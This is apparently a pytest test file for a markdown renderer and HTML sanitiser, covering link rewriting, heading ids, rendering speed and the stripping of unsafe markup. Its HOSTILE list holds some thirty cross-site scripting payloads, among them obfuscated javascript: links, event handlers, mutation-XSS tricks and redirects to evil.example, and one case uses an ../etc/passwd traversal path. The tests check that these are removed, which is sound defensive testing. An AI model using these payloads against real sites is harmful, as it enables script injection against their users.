from __future__ import annotations

import re
import time

import pytest

from corral.web.markdown import LONGEST, render
from corral.web.sanitise import Base, clean

BASE = Base("datasets/ada/horses", "main", "docs")


def test_front_matter_is_not_shown() -> None:
    assert render("---\nlicense: mit\n---\n# Hello") == '<h1 id="hello">Hello</h1>\n'
    assert "license" not in render("\ufeff---\r\nlicense: mit\r\n---\r\nText")
    # a rule at the top is no front matter
    assert "<hr>" in render("---\n\nText")


def test_github_dialect() -> None:
    html = render(
        "| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done\n- [ ] open\n\n~~gone~~ https://example.org\n\n"
        "note[^1]\n\n[^1]: the foot\n"
    )
    assert '<td align="right">2</td>' in html
    assert 'aria-label="done">☑</span>' in html
    assert 'aria-label="to do">☐</span>' in html
    assert "<s>gone</s>" in html
    assert '<a href="https://example.org"' in html
    assert 'href="#fn1"' in html
    assert 'id="fn1"' in html


def test_headings_can_be_linked_to() -> None:
    html = render("# How to *use* `it`!\n# Same\n# Same\n# Überschrift")
    assert re.findall(r'id="([^"]*)"', html) == ["how-to-use-it", "same", "same-1", "überschrift"]


def test_code_is_coloured_without_inline_style() -> None:
    html = render("```python\ndef f(): return '<b>'\n```")
    assert '<span class="hl-k">def</span>' in html
    assert "&lt;b&gt;" in html
    assert "style=" not in html
    assert "<code>plain &amp; simple\n</code>" in render("```no-such-language\nplain & simple\n```")


@pytest.mark.parametrize(
    ("source", "address"),
    [
        ("[x](notes.md)", "/datasets/ada/horses/blob/main/docs/notes.md"),
        ("[x](../LICENSE#top)", "/datasets/ada/horses/blob/main/LICENSE#top"),
        ("[x](sub/)", "/datasets/ada/horses/tree/main/docs/sub"),
        ("[x](../../../../etc/passwd)", "/datasets/ada/horses/blob/main/etc/passwd"),
        ('<a href="./a b.md">x</a>', "/datasets/ada/horses/blob/main/docs/a%20b.md"),
        ("![x](pic.png)", "/datasets/ada/horses/resolve/main/docs/pic.png"),
        ('<img src="pic.png?raw=true">', "/datasets/ada/horses/resolve/main/docs/pic.png"),
        ("[x](/models)", "/models"),
        ("[x](#usage)", "#usage"),
        ("[x](https://example.org/a)", "https://example.org/a"),
        ("[x](mailto:ada@example.org)", "mailto:ada@example.org"),
    ],
)
def test_relative_addresses_stay_in_the_revision(source: str, address: str) -> None:
    assert f'="{address}"' in render(source, BASE)


def test_revision_is_one_segment() -> None:
    html = render("[x](a.md)", Base("ada/horses", "refs/pr/1"))
    assert 'href="/ada/horses/blob/refs%2Fpr%2F1/a.md"' in html


def test_pictures_from_elsewhere_are_links() -> None:
    assert '<a class="md-elsewhere" href="https://x.example/a.png"' in render("![A chart](https://x.example/a.png)")
    assert "<img" not in render("[![badge](https://x.example/b.svg)](https://x.example)")
    assert "src=" not in render('<img src="https://x.example/spy.gif" alt="x">')
    assert "src=" not in render('<video src="//x.example/spy.mp4"></video>')


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.example>",
    '<form action="/logout" method="post"><button formaction="javascript:alert(1)">x</button><input name=csrf></form>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&#10;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1) autoplay><source src=x></video>",
    '<div style="position:fixed;inset:0" class="top alert" data-copy=x>x</div>',
    "<a id=c-main name=body href='/\\evil.example'>x</a>",
    "<p is=x onclick=alert(1) onfocus=alert(1) tabindex=1 autofocus>x</p>",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><script>alert(1)</script>'>",
    "<xmp><script>alert(1)</script></xmp><plaintext>",
    "<![CDATA[<script>alert(1)</script>]]><!--><script>alert(1)</script>-->",
    '`<script>alert(1)</script>`\n\n    <script>alert(1)</script>\n\n```"><script>alert(1)</script>\nx\n```',
]


@pytest.mark.parametrize("source", HOSTILE)
def test_what_could_run_is_gone(source: str) -> None:
    html = render(source, BASE)
    tags = re.findall(r"<\s*/?\s*([a-z0-9]+)([^>]*)>", html, re.IGNORECASE)
    gone = set("script style iframe object embed form input button svg math base meta link template noscript".split())
    assert not {tag.lower() for tag, _ in tags} & gone
    for _, attributes in tags:
        assert not re.search(r"(?:^|\s)(on\w+|style|srcdoc|data-[\w-]+|formaction|name)\s*=", attributes, re.IGNORECASE)
        for address in re.findall(r'(?:href|src)="([^"]*)"', attributes):
            assert re.match(r"(https?://|mailto:|/(?![/\\])|#)", address), address
        for names in re.findall(r'class="([^"]*)"', attributes):
            assert all(re.match(r"hl-|md-|footnote", name) for name in names.split())
        assert 'id="c-' not in attributes


def test_text_beside_what_is_dropped_stays() -> None:
    assert "before" in render("before <script>x</script> after")
    assert "after" in render("before <script>x</script> after")


@pytest.mark.slow
@pytest.mark.parametrize(
    "piece",
    [
        *("[", "*a_", "<", "> ", "- ", "`", "[a](", "<div>", "&", "http://", "[^1]", "**a ", "![a", "![a](b)", "www."),
        *(
            "a@",
            "# a\n",
            "- [ ] a\n",
            "[![a](http://x/y)](b) ",
            "a\n\n",
            "|a",
            "\\",
            "\0",
            "​",
            "<!--",
            "]]>",
            '"' + "'",
        ),
    ],
)
def test_no_text_keeps_a_page_busy(piece: str) -> None:
    text = piece * (LONGEST // len(piece))
    begun = time.process_time()
    render(text, BASE)
    assert time.process_time() - begun < 15


def test_what_is_too_long_is_cut_with_a_word_about_it() -> None:
    html = render("word " * LONGEST)
    assert "The rest of this long document" in html
    assert len(html) < LONGEST * 2


def test_clean_leaves_what_cards_are_made_of() -> None:
    html = '<p align="center"><img src="a.png" width="400" alt="x"><br><kbd>Ctrl</kbd> <sub>1</sub></p>'
    cleaned = clean(html, Base("ada/horses"))
    assert cleaned == (
        '<p align="center"><img src="/ada/horses/resolve/main/a.png" width="400" alt="x"><br><kbd>Ctrl</kbd>'
        " <sub>1</sub></p>"
    )
